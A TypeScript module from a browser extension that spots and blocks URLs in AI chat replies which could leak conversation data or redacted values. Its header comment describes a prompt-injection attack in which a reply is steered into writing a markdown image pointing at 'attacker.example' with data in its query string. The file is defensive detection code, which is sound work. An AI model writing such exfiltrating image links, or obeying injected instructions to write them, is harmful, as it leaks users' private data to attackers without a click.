/**
 * What makes a URL in an AI reply risky, as pure functions shared by the content script (the
 * visible warning) and the service worker (the declarativeNetRequest rules that stop the request,
 * and the check against the values the user had redacted). No DOM, no browser API.
 *
 * The threat: a reply can be steered (prompt injection from a web page, a file, a memory) into
 * writing a markdown image such as `![](https://attacker.example/p.png?d=<conversation data>)`.
 * The site's renderer turns it into an <img>, and the browser fetches it at once: the data leaves
 * without a click. Measured in this repo's Chromium: the fetch starts before any
 * MutationObserver callback can see the node (see test/e2e/replies.e2e.test.ts), so only a
 * network rule stops it in time.
 */
import { detect, PLACEHOLDER_NAMES, type EntityType } from '../detect';

/**
 * "Data in its query": one query part (`name=value`, or a bare part, between `?`/`&` and the next
 * `&`/`#`) of at least 16 characters. The same expression is the declarativeNetRequest
 * `regexFilter` and the content script's check, so the warning and the block always agree. Short
 * parts (`?w=640&q=75`) pass. Chrome compiles DNR regexes with RE2 under a 2 KB memory cap: the
 * stricter "a VALUE of 16+" variants with an optional name (`(?:[^=&#]*=)?`, `[^=&#]{16}`) were
 * measured over it (`isRegexSupported`: memoryLimitExceeded); this one fits.
 */
export const QUERY_DATA_SOURCE = '[?&][^&#]{16}';
const QUERY_DATA = new RegExp(QUERY_DATA_SOURCE);

export const hasQueryData = (url: string): boolean => QUERY_DATA.test(url.split('#')[0] ?? url);

export function hostMatches(host: string, domains: readonly string[]): boolean {
  const h = host.toLowerCase().replace(/\.$/, '');
  return domains.some((d) => h === d || h.endsWith(`.${d}`));
}

/** An image host that is neither the page's host nor one the site serves its own images from. */
export function isThirdParty(url: URL, pageHost: string, firstPartyHosts: readonly string[]): boolean {
  if (url.protocol !== 'https:' && url.protocol !== 'http:') return false;
  return !hostMatches(url.hostname, [pageHost.toLowerCase(), ...firstPartyHosts]);
}

export type RiskReason = 'redacted-value' | 'secret' | 'query-data';

export interface UrlRisk {
  reason: RiskReason;
  /** For redacted values: the entity types (never the values). */
  types?: EntityType[];
}

const safeDecode = (s: string): string => {
  try {
    return decodeURIComponent(s);
  } catch {
    return s.replace(/%([0-9a-f]{2})/gi, (_, hex: string) => String.fromCharCode(parseInt(hex, 16)));
  }
};

const PRINTABLE = /^[\t\n\r\x20-\x7e\u00a0-\uffff]*$/;

/** Decodes a base64 or base64url string to text, or undefined when it is not printable text. */
export function decodeBase64(s: string): string | undefined {
  if (s.length < 8 || !/^[A-Za-z0-9+/_-]+={0,2}$/.test(s)) return undefined;
  try {
    const b64 = s.replace(/-/g, '+').replace(/_/g, '/');
    const bin = atob(b64 + '='.repeat((4 - (b64.length % 4)) % 4));
    const text = new TextDecoder('utf-8', { fatal: true }).decode(Uint8Array.from(bin, (c) => c.charCodeAt(0)));
    return PRINTABLE.test(text) ? text : undefined;
  } catch {
    return undefined;
  }
}

/**
 * The forms a value can take inside a URL, all lower-cased: as written, percent-decoded,
 * form-decoded (`+` is a space), and every base64-looking part decoded.
 */
export function urlForms(url: string): string[] {
  const raw = url.slice(0, 8192);
  const decoded = safeDecode(raw);
  const form = safeDecode(raw.replace(/\+/g, ' '));
  const forms = new Set([raw, decoded, form]);
  for (const part of decoded.split(/[/?&=#;,:]+/)) {
    const text = decodeBase64(part);
    if (text) forms.add(text);
  }
  return [...forms].map((f) => f.toLowerCase());
}

const digitsOf = (s: string): string => s.replace(/\D/g, '');

/** Whether a URL (its forms, from urlForms) carries `value`. Values under 4 characters never match. */
export function carriesValue(forms: readonly string[], value: string): boolean {
  const v = value.trim().toLowerCase();
  if (v.length < 4) return false;
  if (forms.some((f) => f.includes(v))) return true;
  // Numbers are written with and without separators: "+1 555-010-0199" travels as 15550100199.
  const digits = digitsOf(v);
  if (digits.length >= 8 && digits.length >= v.replace(/\s/g, '').length * 0.6) {
    return forms.some((f) => digitsOf(f).includes(digits));
  }
  return false;
}

const TYPE_BY_PREFIX = new Map<string, EntityType>(
  Object.entries(PLACEHOLDER_NAMES).map(([type, prefix]) => [prefix, type as EntityType]),
);

/** `[EMAIL_1]` → EMAIL_ADDRESS. */
export function typeOfPlaceholder(placeholder: string): EntityType | undefined {
  return TYPE_BY_PREFIX.get(placeholder.slice(1, placeholder.lastIndexOf('_')));
}

/** Placeholders as Veil writes them (`[EMAIL_1]`, `[DRIVER_LICENSE_12]`). */

/**
 * For each URL, the types of the redacted values it carries (placeholder → value map of the
 * conversation). Runs in the service worker: the values never leave it for this check.
 */
export function urlsCarrying(urls: readonly string[], byPlaceholder: Readonly<Record<string, string>>): EntityType[][] {
  const entries = Object.entries(byPlaceholder);
  return urls.map((url) => {
    const forms = urlForms(url);
    const types = new Set<EntityType>();
    for (const [placeholder, value] of entries) {
      if (carriesValue(forms, value)) types.add(typeOfPlaceholder(placeholder) ?? 'CUSTOM');
    }
    return [...types];
  });
}

/**
 * The checks the content script can make on its own: a secret-like string anywhere in the URL, and
 * an image on a third-party host with data in its query.
 */
export function localRisks(
  url: string,
  kind: 'image' | 'link',
  pageHost: string,
  firstPartyHosts: readonly string[],
): UrlRisk[] {
  let parsed: URL;
  try {
    parsed = new URL(url);
  } catch {
    return [];
  }
  if (parsed.protocol !== 'https:' && parsed.protocol !== 'http:') return [];
  const risks: UrlRisk[] = [];
  const text = safeDecode(parsed.href.slice(0, 8192)).replace(/[?&=/#]/g, ' ');
  if (detect(text, { types: ['SECRET'] }).length > 0) risks.push({ reason: 'secret' });
  if (kind === 'image' && isThirdParty(parsed, pageHost, firstPartyHosts) && hasQueryData(parsed.href)) {
    risks.push({ reason: 'query-data' });
  }
  return risks;
}

// ---------------------------------------------------------------------------------------------
// declarativeNetRequest url filters for one redacted value

/** Values shorter than this are not turned into network rules (too likely to match by chance). */
export const MIN_RULE_VALUE = 6;

const toBase64 = (text: string): string => {
  const bytes = new TextEncoder().encode(text);
  let bin = '';
  for (const b of bytes) bin += String.fromCharCode(b);
  return btoa(bin);
};

/**
 * `urlFilter` strings (DNR substring patterns) that match a URL carrying `value`: as written,
 * percent-encoded, form-encoded, and base64 / base64url (case-sensitive, padding dropped).
 * urlFilter cannot escape `*`, `|` or `^` and must be ASCII: forms with those are left out.
 */
export function valueFilters(value: string): { filter: string; caseSensitive: boolean }[] {
  const v = value.trim();
  if (v.length < MIN_RULE_VALUE) return [];
  // A number is only distinctive when it is long: 8+ digits.
  if (/^[\d\s().+-]+$/.test(v) && digitsOf(v).length < 8) return [];
  const out = new Map<string, boolean>();
  const add = (filter: string, caseSensitive: boolean): void => {
    if (filter.length >= MIN_RULE_VALUE && /^[\x21-\x7e]+$/.test(filter) && !/[*|^]/.test(filter)) {
      out.set(filter, caseSensitive);
    }
  };
  add(v, false);
  const encoded = encodeURIComponent(v);
  add(encoded, false);
  add(encoded.replace(/%20/g, '+'), false);
  // Digits alone (phone or card numbers written without separators).
  if (/^[\d\s().+-]+$/.test(v)) add(digitsOf(v), false);
  const b64 = toBase64(v).replace(/=+$/, '');
  if (b64.length >= 8) {
    add(b64, true);
    add(b64.replace(/\+/g, '-').replace(/\//g, '_'), true);
  }
  return [...out].map(([filter, caseSensitive]) => ({ filter, caseSensitive }));
}
